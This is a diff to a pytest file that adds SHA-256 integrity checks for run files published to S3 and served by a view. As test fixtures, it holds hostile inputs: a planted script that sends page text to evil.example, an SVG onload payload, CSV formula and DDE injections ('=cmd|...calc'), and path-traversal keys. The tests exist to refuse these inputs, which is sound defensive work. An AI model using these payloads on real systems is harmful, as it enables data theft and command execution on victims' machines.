@@ -2,12 +2,23 @@
 
 from __future__ import annotations
 
+import hashlib
 from datetime import UTC, datetime
 
 import pytest
 
 from include.segmentation_aws import published_runs
-from include.segmentation_aws.published_runs import NotPublished, PublishedRun, read_plot, read_report, run_summary
+from include.segmentation_aws.published_runs import (
+    NotAsPublished,
+    NotPublished,
+    PublishedRun,
+    open_segments,
+    read_plot,
+    read_report,
+    run_summary,
+    served_digests,
+)
+from tests.published_files import legacy_summary, publish_files
 
 WHEN = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
 RUN = {
@@ -17,17 +28,26 @@ RUN = {
     "params": {"k": 8},
     "explained_variance": 0.8017,
 }
+TABLE = b"State-County,segment,distance,c_1\n" + b"".join(b"Texas-Travis %d,1,0.5,0.25\n" % i for i in range(50))
+DIGEST = "0" * 64
+
+
+def _results(bucket: str = "popseg-emulator-tests", prefix: str = "views/") -> str:
+    return f"s3://{bucket}/{prefix}runs/{RUN['run_id']}/"
 
 
 def _summary(bucket: str = "popseg-emulator-tests", prefix: str = "views/") -> dict:
-    return run_summary(RUN, f"s3://{bucket}/{prefix}runs/{RUN['run_id']}/")
+    return run_summary(RUN, _results(bucket, prefix), {"report.html": DIGEST})
 
 
 def _published(s3, bucket: str, files: dict[str, bytes]) -> PublishedRun:
-    run = PublishedRun.from_summary(_summary(bucket), WHEN)
-    for name, data in files.items():
-        s3.put_object(Bucket=bucket, Key=run.prefix + name, Body=data)
-    return run
+    """A run that published `files` (their digests recorded)."""
+    return PublishedRun.from_summary(publish_files(s3, RUN, _results(bucket), files), WHEN)
+
+
+def _planted(s3, run: PublishedRun, name: str, data: bytes) -> None:
+    """Replace a published file in S3, as whoever can write the results bucket can."""
+    s3.put_object(Bucket=run.bucket, Key=run.prefix + name, Body=data)
 
 
 def test_a_summary_gives_the_runs_figures_and_where_its_files_are() -> None:
@@ -48,6 +68,10 @@ def test_a_summary_gives_the_runs_figures_and_where_its_files_are() -> None:
         ("run_id", "a<b", "run_id"),
         ("results", "s3://popseg-emulator-tests/views/runs/another-run/", "results"),
         ("results", "https://evil.example/runs/x/", "results"),
+        ("sha256", "abc", "sha256"),
+        ("sha256", {"../../report.html": DIGEST}, "sha256"),
+        ("sha256", {"report.html": "ABC"}, "sha256 of report.html"),
+        ("sha256", {f"plots/p{i}.png": DIGEST for i in range(published_runs.MAX_DIGESTS + 1)}, "sha256"),
     ],
 )
 def test_a_summary_with_a_wrong_or_hostile_field_is_refused_naming_it(field, value, named) -> None:
@@ -66,6 +90,34 @@ def test_missing_files_are_not_published(s3, bucket) -> None:
         read_report(s3, run)
 
 
+def test_a_report_changed_in_s3_after_publishing_is_refused_naming_both_digests(s3, bucket) -> None:
+    run = _published(s3, bucket, {"report.html": b"<h1>the report</h1>"})
+    planted = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"
+    _planted(s3, run, "report.html", planted)
+    recorded, actual = (hashlib.sha256(data).hexdigest()[:16] for data in (b"<h1>the report</h1>", planted))
+    with pytest.raises(
+        NotAsPublished,
+        match=rf"report.html of run .* is not the file the run published: "
+        rf"its sha256 is {actual}…, publish recorded {recorded}…",
+    ):
+        read_report(s3, run)
+
+
+def test_a_run_published_before_digests_were_recorded_serves_nothing_and_says_to_re_run(s3, bucket) -> None:
+    run = PublishedRun.from_summary(legacy_summary(RUN, _results(bucket)), WHEN)
+    s3.put_object(Bucket=bucket, Key=run.prefix + "report.html", Body=b"<h1>an old report</h1>")
+    assert run.sha256 == {}  # still listed: its summary is valid
+    with pytest.raises(NotPublished, match="records none.*re-run it"):
+        read_report(s3, run)
+
+
+def test_a_file_the_run_recorded_no_digest_for_is_refused(s3, bucket) -> None:
+    run = _published(s3, bucket, {"report.html": b"<h1>the report</h1>"})
+    _planted(s3, run, "plots/added.png", published_runs.PNG_MAGIC + b"a plot the run never made")
+    with pytest.raises(NotPublished, match="published no plots/added.png"):
+        read_plot(s3, run, "added.png")
+
+
 def test_a_plot_is_served_only_when_it_is_a_png_with_a_plot_name(s3, bucket) -> None:
     png = published_runs.PNG_MAGIC + b"rest of a png"
     run = _published(s3, bucket, {"plots/segment_sizes.png": png, "plots/fake.png": b"<svg onload=alert(1)>"})
@@ -77,6 +129,13 @@ def test_a_plot_is_served_only_when_it_is_a_png_with_a_plot_name(s3, bucket) -> 
             read_plot(s3, run, name)
 
 
+def test_a_plot_changed_in_s3_after_publishing_is_refused(s3, bucket) -> None:
+    run = _published(s3, bucket, {"plots/segment_sizes.png": published_runs.PNG_MAGIC + b"the plot"})
+    _planted(s3, run, "plots/segment_sizes.png", published_runs.PNG_MAGIC + b"another picture")
+    with pytest.raises(NotAsPublished, match="plots/segment_sizes.png of run .* is not the file the run published"):
+        read_plot(s3, run, "segment_sizes.png")
+
+
 def test_an_oversized_file_is_refused_without_reading_it_whole(s3, bucket, monkeypatch) -> None:
     monkeypatch.setattr(published_runs, "MAX_REPORT_BYTES", 1000)
     run = _published(s3, bucket, {"report.html": b"x" * 1001})
@@ -86,17 +145,96 @@ def test_an_oversized_file_is_refused_without_reading_it_whole(s3, bucket, monke
 
 def test_segments_csv_streams_in_bounded_chunks_and_only_when_it_is_a_segments_table(s3, bucket, monkeypatch) -> None:
     monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
-    table = b"State-County,segment,distance,c_1\n" + b"".join(b"Texas-Travis %d,1,0.5,0.25\n" % i for i in range(50))
-    run = _published(s3, bucket, {"segments.csv": table})
-    chunks = list(published_runs.open_segments(s3, run))
-    assert b"".join(chunks) == table and max(map(len, chunks)) == 64
-    _published(s3, bucket, {"segments.csv": b"<html><script>alert(1)</script>"})
+    run = _published(s3, bucket, {"segments.csv": TABLE})
+    chunks = list(open_segments(s3, run))
+    assert b"".join(chunks) == TABLE and max(map(len, chunks)) == 64
+    run = _published(s3, bucket, {"segments.csv": b"<html><script>alert(1)</script>"})  # as if publish wrote it
     with pytest.raises(NotPublished, match="not a segments table"):
-        published_runs.open_segments(s3, run)
+        open_segments(s3, run)
 
 
-def test_an_oversized_segments_csv_is_refused_before_its_first_chunk(s3, bucket, monkeypatch) -> None:
-    monkeypatch.setattr(published_runs, "MAX_SEGMENTS_BYTES", 100)
-    run = _published(s3, bucket, {"segments.csv": published_runs.SEGMENTS_HEADER + b"\n" + b"x" * 100})
-    with pytest.raises(NotPublished, match="above 100"):
-        published_runs.open_segments(s3, run)
+def test_a_segments_csv_changed_in_s3_after_publishing_is_refused_before_its_first_chunk(s3, bucket) -> None:
+    run = _published(s3, bucket, {"segments.csv": TABLE})
+    _planted(s3, run, "segments.csv", TABLE.replace(b"Texas-Travis 7,", b'=HYPERLINK("https://evil.example"),'))
+    with pytest.raises(NotAsPublished, match="segments.csv of run .* is not the file the run published"):
+        open_segments(s3, run)
+
+
+def test_a_segments_csv_replaced_between_its_check_and_its_stream_is_refused(s3, bucket, monkeypatch) -> None:
+    run = _published(s3, bucket, {"segments.csv": TABLE})
+    get_object = s3.get_object
+
+    def swapped_after_the_check(**request):
+        if "IfMatch" in request:  # the second pass: the check has just read the published file
+            _planted(s3, run, "segments.csv", TABLE + b"Texas-Planted,1,0.5,0.25\n")
+        return get_object(**request)
+
+    monkeypatch.setattr(s3, "get_object", swapped_after_the_check)
+    with pytest.raises(NotAsPublished, match="segments.csv of run .* was replaced in S3 while it was being checked"):
+        open_segments(s3, run)
+
+
+class _Body:
+    """A get_object body that records the size of every read."""
+
+    def __init__(self, data: bytes, reads: list) -> None:
+        self.data, self.reads = data, reads
+
+    def read(self, size: int | None = None) -> bytes:
+        self.reads.append(size)
+        chunk, self.data = self.data[:size], self.data[size:]
+        return chunk
+
+    def close(self) -> None:
+        pass
+
+
+class _S3Answering:
+    """An S3 client that answers each get_object with the next of `bodies`, whatever the request's conditions
+    (as a store that ignored If-Match would)."""
+
+    def __init__(self, *bodies: bytes) -> None:
+        self.bodies, self.reads = list(bodies), []
+
+    def get_object(self, **request) -> dict:
+        data = self.bodies.pop(0)
+        return {"Body": _Body(data, self.reads), "ContentLength": len(data), "ETag": '"etag"'}
+
+
+def test_segments_csv_is_checked_and_streamed_in_reads_of_at_most_one_chunk(monkeypatch) -> None:
+    monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
+    run = PublishedRun.from_summary(
+        run_summary(RUN, _results(), {"segments.csv": hashlib.sha256(TABLE).hexdigest()}), WHEN
+    )
+    s3 = _S3Answering(TABLE, TABLE)
+    assert b"".join(open_segments(s3, run)) == TABLE
+    assert s3.reads and all(size == 64 for size in s3.reads)  # never read() whole: memory bounded by the chunk
+
+
+def test_a_segments_csv_swapped_under_the_stream_ends_before_its_last_chunk(monkeypatch) -> None:
+    monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
+    run = PublishedRun.from_summary(
+        run_summary(RUN, _results(), {"segments.csv": hashlib.sha256(TABLE).hexdigest()}), WHEN
+    )
+    swapped = TABLE[:-10] + b"=cmd|' /C calc'!A0\n"
+    received = []
+    with pytest.raises(NotAsPublished, match="not the file the run published"):
+        for chunk in open_segments(_S3Answering(TABLE, swapped), run):
+            received.append(chunk)
+    assert len(b"".join(received)) < len(swapped)  # the last chunk, and with it a whole download, never goes out
+
+
+def test_publish_records_the_digest_of_each_file_the_view_serves_and_only_those(s3, bucket) -> None:
+    files = {
+        "report.html": b"<h1>the report</h1>",
+        "segments.csv": TABLE,
+        "plots/segment_sizes.png": published_runs.PNG_MAGIC + b"png",
+        "run.json": b"{}",
+        "centroids.csv": b"segment\n",
+    }
+    run = _published(s3, bucket, files)
+    digests = served_digests(s3, run.bucket, {name: run.prefix + name for name in files})
+    assert digests == {
+        name: hashlib.sha256(files[name]).hexdigest()
+        for name in ("plots/segment_sizes.png", "report.html", "segments.csv")
+    }
